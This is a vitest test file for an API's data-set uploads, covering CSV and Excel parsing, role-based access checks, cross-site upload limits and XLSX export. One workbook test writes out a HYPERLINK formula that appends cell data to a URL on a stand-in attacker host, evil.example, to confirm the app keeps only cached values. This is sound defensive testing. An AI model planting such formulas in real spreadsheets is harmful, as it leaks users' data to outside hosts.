import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, type Caller } from './support/api.js';
import { addMembership, buildProject, buildUser, signInAs } from './support/factories.js';
import { buildTestApp, type TestApp } from './support/test-app.js';

let t: TestApp;
let owner: Caller;
let viewer: Caller;
let stranger: Caller;
let projectId: number;
let otherProjectId: number;

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

function upload(
  app: TestApp['app'],
  caller: Caller,
  id: number,
  body: Buffer | string,
  type: string,
  query = 'name=data.csv',
) {
  return app.inject({
    method: 'POST',
    url: `/api/v1/projects/${id}/datasets?${query}`,
    headers: { ...caller.headers, 'content-type': type },
    payload: body,
  });
}

beforeAll(async () => {
  t = await buildTestApp();
  const users = await Promise.all(
    ['Olivia Owner', 'Vera Viewer', 'Sam Stranger'].map((fullName) =>
      buildUser({ db: t.db, clock: t.clock, fullName }),
    ),
  );
  const [o, v, s] = await Promise.all(users.map((user) => signInAs({ db: t.db, clock: t.clock, userId: user!.id })));
  [owner, viewer, stranger] = [o!, v!, s!];
  projectId = (await buildProject({ db: t.db, clock: t.clock, ownerId: users[0]!.id })).id;
  otherProjectId = (await buildProject({ db: t.db, clock: t.clock, ownerId: users[2]!.id, name: 'Other' })).id;
  await addMembership({ db: t.db, projectId, user: users[1]!, role: 'viewer' });
});
afterAll(() => t.close());

describe('storing a data set', () => {
  it('reads a CSV with typed columns, previews it, and gives it back whole to readers', async () => {
    const csv = 'Segment;Churn;Revenue;Month\nNew;12,5 %;1.200,50 €;2024-01-31\nOld;4 %;800 €;2024-02-29\n';
    const res = await upload(t.app, owner, projectId, csv, 'text/csv; charset=utf-8', 'name=churn.csv');
    expect(res.statusCode, res.body).toBe(201);
    const summary = res.json();
    expect(summary).toMatchObject({ name: 'churn.csv', format: 'csv', rowCount: 2, sheets: [] });
    expect(summary.columns.map((c: { type: string }) => c.type)).toEqual(['text', 'percent', 'currency', 'date']);
    expect(summary.preview[0]).toEqual(['New', 12.5, 1200.5, '2024-01-31']);

    const read = await call(t.app, viewer, 'GET', `/api/v1/projects/${projectId}/datasets/${summary.id}`);
    expect(read.statusCode).toBe(200);
    expect(read.json().rows).toHaveLength(2);
  });

  it('reads pasted cells (tab-separated) as pasted data', async () => {
    const res = await upload(t.app, owner, projectId, 'a\tb\n1\t2\n', 'text/plain', 'name=Pasted&paste=true');
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json()).toMatchObject({ format: 'paste', rowCount: 1 });
  });

  it('reads a workbook: the chosen sheet, formulas as their cached values, percentages as percent', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Notes').addRows([['Note'], ['nothing here']]);
    const sheet = workbook.addWorksheet('Churn');
    sheet.addRow(['Segment', 'Churn', 'Doubled']);
    sheet.addRow(['New', 0.125, { formula: 'B2*2', result: 0.25 }]);
    sheet.addRow(['Old', 0.04, { formula: 'HYPERLINK("http://evil.example/"&B3)', result: 'x' }]);
    sheet.getColumn(2).numFmt = '0.0%';
    const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
    const first = await upload(t.app, owner, projectId, bytes, XLSX, 'name=churn.xlsx');
    expect(first.statusCode, first.body).toBe(201);
    expect(first.json()).toMatchObject({ sheet: 'Notes', sheets: ['Notes', 'Churn'] });
    const chosen = await upload(
      t.app,
      owner,
      projectId,
      bytes,
      'application/octet-stream',
      'name=churn.xlsx&sheet=Churn',
    );
    expect(chosen.statusCode, chosen.body).toBe(201);
    const summary = chosen.json();
    expect(summary.columns.map((c: { type: string }) => c.type)).toEqual(['text', 'percent', 'text']);
    expect(summary.preview).toEqual([
      ['New', 12.5, '0.25'],
      ['Old', 4, 'x'],
    ]);
    const missing = await upload(t.app, owner, projectId, bytes, XLSX, 'name=churn.xlsx&sheet=Nope');
    expect(missing.statusCode).toBe(400);
    expect(missing.json().code).toBe('dataset_sheet_not_found');
  });
});

describe('who may store and read data sets', () => {
  it('refuses a viewer (403), and a stranger gets the 404 of a missing project, before the body is read', async () => {
    const byViewer = await upload(t.app, viewer, projectId, 'a\n1\n', 'text/csv');
    expect(byViewer.statusCode).toBe(403);
    const byStranger = await upload(t.app, stranger, projectId, 'a\n1\n', 'text/csv');
    const missing = await upload(t.app, stranger, 999_999, 'a\n1\n', 'text/csv');
    expect(byStranger.statusCode).toBe(404);
    expect(byStranger.json()).toEqual(missing.json());
  });

  it('reads a data set only through its own project', async () => {
    const stored = (await upload(t.app, owner, projectId, 'a\n1\n', 'text/csv')).json();
    const asStranger = await call(t.app, stranger, 'GET', `/api/v1/projects/${projectId}/datasets/${stored.id}`);
    expect(asStranger.statusCode).toBe(404);
    const viaOther = await call(t.app, stranger, 'GET', `/api/v1/projects/${otherProjectId}/datasets/${stored.id}`);
    expect(viaOther.statusCode).toBe(404);
    expect(viaOther.json().code).toBe('not_found');
  });

  it('by cookie, takes the upload types a cross-site page cannot send unasked, and refuses text/plain', async () => {
    const cookie = {
      cookie: `auth_token=${owner.headers.authorization!.slice('Bearer '.length)}`,
      origin: 'http://localhost:3000',
    };
    const asCookie = (type: string) =>
      t.app.inject({
        method: 'POST',
        url: `/api/v1/projects/${projectId}/datasets?name=c.csv`,
        headers: { ...cookie, 'content-type': type },
        payload: 'a\tb\n1\t2\n',
      });
    expect((await asCookie('text/tab-separated-values')).statusCode).toBe(201);
    expect((await asCookie('text/plain')).statusCode).toBe(415);
  });

  it('takes only files: JSON is 415', async () => {
    const res = await call(t.app, owner, 'POST', `/api/v1/projects/${projectId}/datasets?name=x`, { rows: [] });
    expect(res.statusCode).toBe(415);
  });
});

describe('a data set in the exports', () => {
  it('travels with the workbook as a typed sheet of its own', async () => {
    const csv = 'Segment,Churn\nNew,12.5%\nOld,4%\n';
    const stored = (await upload(t.app, owner, projectId, csv, 'text/csv', 'name=churn.csv')).json();
    const project = (await call(t.app, owner, 'GET', `/api/v1/projects/${projectId}`)).json();
    const entry = {
      id: 'A1',
      hypothesisId: 'H1',
      title: 'Churn by segment',
      findings: '',
      evidence: {
        dataset: { ...stored, attachedAt: '2026-01-01T00:00:00.000Z', preview: undefined, sheets: undefined },
        log: [],
      },
    };
    const body = JSON.stringify({ version: '1.1', brief: {}, analyses: [entry] });
    const url = `/api/v1/projects/${projectId}/snapshots/${project.projectSnapshots[0].id as number}`;
    const saved = await call(t.app, owner, 'PUT', url, { problemStatement: 'Why do customers leave?', body });
    expect(saved.statusCode, saved.body).toBe(200);

    const res = await call(t.app, viewer, 'GET', `/api/v1/projects/${projectId}/export?format=xlsx`);
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const data = workbook.worksheets.find((ws) => ws.name.startsWith('Data A1'));
    expect(data?.getRow(1).values).toEqual([undefined, 'Segment', 'Churn']);
    expect(data?.getRow(2).getCell(2).value).toBeCloseTo(0.125);
  });
});
